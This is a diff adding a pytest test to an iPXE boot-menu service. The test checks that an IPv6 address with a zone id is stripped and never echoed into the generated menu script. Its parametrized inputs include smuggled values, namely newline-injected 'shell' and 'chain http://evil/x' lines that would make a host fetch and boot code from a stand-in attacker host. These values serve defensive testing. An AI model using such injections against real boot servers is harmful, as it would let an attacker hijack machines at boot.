@@ -123,6 +123,18 @@ def test_nul_characters_are_a_400_in_the_apis_and_replaced_in_event_messages(cli
     assert BuildEvent.objects.get().message == "tar: \N{REPLACEMENT CHARACTER} odd"
 
 
+@pytest.mark.parametrize("zone", ["eth0", "x\nshell", "x\r\nchain http://evil/x", "\u2028shell"])
+def test_an_ipv6_zone_in_the_request_never_reaches_the_script(client, world, zone):
+    """The address a host says it booted with is echoed in its menu: one with a zone id is no address at all."""
+    from dock2box.http import ip_or_empty
+
+    assert ip_or_empty(f"fe80::1%{zone}") == ""
+    for mac in ("52:54:00:99:99:99", BUILD_MAC):
+        text = client.get("/ipxe", {"mac": mac, "ip": f"fe80::1%{zone}"}).content.decode()
+        assert "fe80::1" not in text and "evil" not in text
+        assert text == client.get("/ipxe", {"mac": mac}).content.decode()  # as if it had named no address
+
+
 def test_discovery_details_longer_than_their_columns_still_get_the_menu(client, world):
     text = client.get(f"/ipxe?mac=52:54:00:00:0d:01&uuid={'a' * 99}&buildarch={'x' * 90}&serial=S1").content.decode()
     assert "item --gap -- mac: 52:54:00:00:0d:01" in text and "internal error" not in text
